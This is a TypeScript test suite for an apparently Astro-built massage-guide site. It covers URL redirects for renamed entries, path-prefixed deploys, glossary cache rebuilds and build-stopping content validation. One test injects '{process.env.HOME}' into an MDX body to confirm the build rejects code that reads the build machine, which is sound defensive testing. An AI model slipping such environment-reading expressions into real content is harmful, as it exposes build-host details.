  if (keepAlias) writeFileSync(type, readFileSync(type, 'utf8').replace('aliases: [classic massage, relaxation massage]', 'aliases: [classic massage, relaxation massage, swedish massage]'));
  publish(root, PUBLISHED_SWEDISH);
}


/** What a build answers at each path: the file's text, 'png' for an image, or 'missing'. */
function answersOf(out: string, paths: string[], answers: Record<string, string>): void {
  for (const path of paths) {
    const file = join(out, path.endsWith('/') ? `${path}index.html` : path);
    answers[path] = existsSync(file) ? (path.endsWith('.png') ? 'png' : readFileSync(file, 'utf8')) : 'missing';
  }
}

const redirectsTo = (answers: Record<string, string>, path: string, to: string) => assert.match(answers[path]!, new RegExp(`http-equiv="refresh" content="0; url=${to.replace(/[/.]/g, '\\$&')}"`), path);

test('a renamed entry that keeps its old slug as an alias keeps every published URL', () => {
  const answers: Record<string, string> = {};
  const { status, output } = build(
    (root) => renameSwedish(root, true),
    (out) => answersOf(out, PUBLISHED_SWEDISH, answers),
  );
  assert.equal(status, 0, output.slice(-3000));
  redirectsTo(answers, '/types/swedish-massage/', '/types/swedish-massage-therapy/');
  redirectsTo(answers, '/embed/types/swedish-massage/', '/embed/types/swedish-massage-therapy/');
  redirectsTo(answers, '/handouts/types/swedish-massage/', '/handouts/types/swedish-massage-therapy/');
  redirectsTo(answers, '/compare/deep-tissue-massage-vs-swedish-massage/', '/compare/deep-tissue-massage-vs-swedish-massage-therapy/');
  assert.match(answers['/oembed/types/swedish-massage.json']!, /"url":"\/types\/swedish-massage-therapy\/"/);
  assert.match(answers['/qr/types/swedish-massage.svg']!, /^<svg/);
  assert.equal(answers['/og/types/swedish-massage.png'], 'png');
});

test("a removed entry whose page is redirected to an entry of its kind keeps its files: they cannot be redirected, so they are built again", () => {
  const published = PUBLISHED_SWEDISH.filter((path) => !path.startsWith('/compare/')).map((path) => path.replace('swedish-massage', 'hot-stone-massage'));
  const answers: Record<string, string> = {};
  const { status, output } = build(
    (root) => publish(root, published, ['/types/hot-stone-massage/ /types/swedish-massage/']),
    (out) => answersOf(out, published, answers),
  );
  assert.equal(status, 0, output.slice(-3000));
  redirectsTo(answers, '/types/hot-stone-massage/', '/types/swedish-massage/');
  redirectsTo(answers, '/embed/types/hot-stone-massage/', '/embed/types/swedish-massage/');
  redirectsTo(answers, '/handouts/types/hot-stone-massage/', '/handouts/types/swedish-massage/');
  assert.match(answers['/oembed/types/hot-stone-massage.json']!, /"url":"\/types\/swedish-massage\/"/);
  assert.match(answers['/qr/types/hot-stone-massage.svg']!, /^<svg/);
  assert.equal(answers['/og/types/hot-stone-massage.png'], 'png');
});

/** Pages (and other files) of a built site that hold `needle`. */
const linking = (out: string, needle: string) => filesContaining(out, needle).filter((file) => file.endsWith('.html'));

test('a warm build renders again when the glossary changes, and a YAML file that cannot be read stops it', () => {
  const term = '- id: therapist\n  term: Therapist\n  definition: A person trained to give massage as a treatment.\n';
  const copy = site((root) => append(root, 'glossary.yaml', term));
  try {
    const first = copy.build();
    assert.equal(first.status, 0, first.output.slice(-3000));
    assert.notDeepEqual(linking(copy.out, '#term-therapist'), [], 'the term is linked from the articles that use it');
    // The term goes; no article's text changes, so Astro would reuse every cached body.
    writeFileSync(join(copy.content, 'glossary.yaml'), readFileSync(join(copy.content, 'glossary.yaml'), 'utf8').replace(term, ''));
    const second = copy.build();
    assert.equal(second.status, 0, second.output.slice(-3000));
    assert.deepEqual(linking(copy.out, '#term-therapist'), [], 'pages that link the removed term');
    const good = readFileSync(join(copy.out, 'types/swedish-massage/index.html'), 'utf8');
    // With the cache warm, an unknown tag in findings.yaml (and in the glossary) stops the build: the last good findings never ship.
    const tag = (file: string, from: string) => writeFileSync(join(copy.content, file), readFileSync(join(copy.content, file), 'utf8').replace(from, `${from}!text `));
    tag('findings.yaml', 'source: ');
    tag('glossary.yaml', 'term: ');
    const third = copy.build();
    assert.notEqual(third.status, 0, third.output.slice(-3000));
    assert.match(third.output, /content\/findings\.yaml → line \d+: the tag: !text is not read the same way everywhere, so it is not allowed/);
    assert.match(third.output, /content\/glossary\.yaml → line \d+: the tag: !text is not read the same way everywhere/);
    assert.doesNotMatch(third.output, /\[ERROR\]|\n\s+at /);
    assert.equal(readFileSync(join(copy.out, 'types/swedish-massage/index.html'), 'utf8'), good, 'the failed build left the last good site');
  } finally {
    copy.remove();
  }
});

const applyEdit = (c: Case) => (root: string) => writeFileSync(join(root, c.file), c.edit(readFileSync(join(root, c.file), 'utf8')));

const ALL: FileCase[] = [
  ...CASES.filter((c) => !c.together).map((c) => ({ name: c.name, expect: c.expect, reject: c.reject, prepare: applyEdit(c) })),
  ...FILE_CASES.filter((c) => !c.together),
];

/** Cases that share one build, by the stage of the build that reports them all. */
const GROUPS = [
  [...CASES.filter((c) => c.together).map((c) => ({ name: c.name, expect: c.expect, prepare: applyEdit(c) })), ...FILE_CASES.filter((c) => c.together === 'site')],
  FILE_CASES.filter((c) => c.together === true),
];

for (const group of GROUPS) {
  let shared: ReturnType<typeof build> | undefined;
  const sharedBuild = () => (shared ??= build((root) => group.forEach((c) => c.prepare(root))));
  for (const c of group) {
    test(`bad content stops the build: ${c.name} (one build with ${group.length} problems)`, () => {
      const { status, output, oldSiteIntact } = sharedBuild();
      assert.notEqual(status, 0, `the build passed:\n${output.slice(-2000)}`);
      for (const pattern of c.expect) assert.match(output, pattern, output.slice(-6000));
      // Our message is the whole report: no stack trace or code location of the build's own machinery after it.
      assert.doesNotMatch(output, /Stack trace:|Location:\s+\S*node_modules/);
      assert.equal(oldSiteIntact, true, 'a failed build changed the old dist/ or left a staging folder');
    });
  }
}

for (const c of ALL) {
  test(`bad content stops the build: ${c.name}`, () => {
    const { status, output, oldSiteIntact } = build(c.prepare);
    assert.notEqual(status, 0, `the build passed:\n${output.slice(-2000)}`);
    for (const pattern of c.expect) assert.match(output, pattern, output.slice(-3000));
    for (const pattern of c.reject ?? []) assert.doesNotMatch(output, pattern);
    assert.equal(oldSiteIntact, true, 'a failed build changed the old dist/ or left a staging folder');
  });
}

/** Every site path in the attributes of every built page, by file. */
function sitePathsByPage(out: string): Map<string, string[]> {
  const pages = readdirSync(out, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.html'));
  return new Map(pages.map((file) => [file, [...readFileSync(join(out, file), 'utf8').matchAll(/\s(?:href|src|action)="(\/[^"]*)"/g)].map((m) => m[1]!)]));
}

test('a deploy build under a path keeps the path in every address: links, canonical, sitemap, feed, embed, oEmbed, QR code, API and host rules', async () => {
  const base = 'https://clinic.example/guide/';
  const seen: Record<string, string> = {};
  let atRoot = new Map<string, string[]>();
  let underPath = new Map<string, string[]>();
  const root = build(() => {}, (out) => (atRoot = sitePathsByPage(out)), { SITE_URL: 'https://clinic.example/', CONTACT_URL: 'mailto:editors@example.org' });
  assert.equal(root.status, 0, root.output.slice(-3000));
  const { status, output } = build(
    () => {},
    (out) => {
      underPath = sitePathsByPage(out);
      for (const file of ['types/swedish-massage/index.html', 'sitemap-0.xml', 'feed.xml', 'embed/types/swedish-massage/index.html', 'oembed/types/swedish-massage.json', 'qr/types/swedish-massage.svg', 'api/v1/types.json', '_headers', '_redirects', 'robots.txt']) seen[file] = readFileSync(join(out, file), 'utf8');
    },
    { SITE_URL: base, CONTACT_URL: 'mailto:editors@example.org' },
  );
  assert.equal(status, 0, output.slice(-3000));
  // The same pages, each linking exactly where the root build links, under /guide/ (Astro's own assets included).
  assert.deepEqual([...underPath.keys()].sort(), [...atRoot.keys()].sort());
  // A bundle that reads the base has another content hash: its name is compared without it.
  const unhashed = (path: string) => path.replace(/(\/_astro\/.+)\.[\w-]+\.(js|css)$/, '$1.$2');
  for (const [file, paths] of atRoot) assert.deepEqual(underPath.get(file)?.map(unhashed), paths.map((p) => unhashed(`/guide${p}`)), file);
  const page = `${base}types/swedish-massage/`;
  assert.match(seen['types/swedish-massage/index.html']!, new RegExp(`<link rel="canonical" href="${page}">`));
  assert.match(seen['sitemap-0.xml']!, new RegExp(`<loc>${page}</loc>`));
  assert.doesNotMatch(seen['sitemap-0.xml']! + seen['feed.xml']! + seen['api/v1/types.json']!, /https:\/\/clinic\.example\/(?!guide\/)/);
  assert.match(seen['feed.xml']!, new RegExp(`<link>${base}`));
  assert.match(seen['embed/types/swedish-massage/index.html']!, new RegExp(`href="${page}"`));
  assert.equal(JSON.parse(seen['oembed/types/swedish-massage.json']!).url, page);
  assert.match(JSON.parse(seen['oembed/types/swedish-massage.json']!).html, new RegExp(`src="${base}embed/types/swedish-massage/"`));
  assert.equal(seen['qr/types/swedish-massage.svg'], await qrSvg(page), 'the QR code opens the page under the path');
  assert.match(seen['api/v1/types.json']!, new RegExp(`"${page}"`));
  assert.match(seen['_headers']!, /^\/guide\/\*\n/);
  assert.doesNotMatch(seen['_redirects']!, /^\/(?!guide\/)/m);
  assert.match(seen['robots.txt']!, new RegExp(`Sitemap: ${base}sitemap-index.xml`));
});

test('a plain astro build, as hosts run it, holds the MDX policy and the URL contract, and indexes the site for search', () => {
  const cases: [string, (root: string) => void, RegExp][] = [
    ['an .mdx body outside the MDX policy', (root) => append(root, 'guides/safety.mdx', '\n{process.env.HOME}\n'), /safety\.mdx → line \d+: \{process\.env\.HOME\} reads the build machine/],
    ['a published URL lost', (root) => writeFileSync(join(root, '..', 'contract', 'published-urls.txt'), '/types/nope/\n'), /published-urls\.txt → \/types\/nope\/: was published, and clinics may link to it, but this build no longer answers it/],
  ];
  for (const [name, prepare, message] of cases) {
    const copy = site(prepare);
    const { status, output } = copy.build(true);
    copy.remove();
    assert.notEqual(status, 0, name);
    assert.match(output, message, name);
  }
  const copy = site(() => {});
  const { status, output } = copy.build(true);
  const indexed = existsSync(join(copy.out, 'pagefind', 'pagefind.js')) && existsSync(join(copy.out, 'search-pages.json'));
  copy.remove();
  assert.equal(status, 0, output.slice(-3000));
  assert.ok(indexed, 'the search index and page map are written by astro build itself');
});
